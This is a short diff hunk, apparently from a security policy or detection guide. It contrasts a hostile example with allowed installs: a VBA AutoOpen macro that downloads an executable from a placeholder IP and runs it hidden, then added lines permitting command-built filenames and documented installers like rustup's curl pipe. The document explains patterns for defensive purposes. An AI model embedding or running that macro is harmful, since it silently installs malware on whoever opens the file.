@@ -49,6 +49,8 @@ Example
     `Sub AutoOpen(): URLDownloadToFile 0, "http://203.0.113.5/i.exe", f, 0, 0: Shell f, vbHide`
 
 Allowed instead
+    A download saved under a name built by a command (`-o "cfg/$host-$(date +%F).json"`):
+    the command builds the name and runs nothing fetched.
     Ordinary developer installs stay allowed, including the documented `curl | sh` ones: an
     installer fetched over HTTPS from a named host and run in the open
     (`curl -sSf https://sh.rustup.rs | sh`, `irm get.scoop.sh | iex`, Chocolatey's
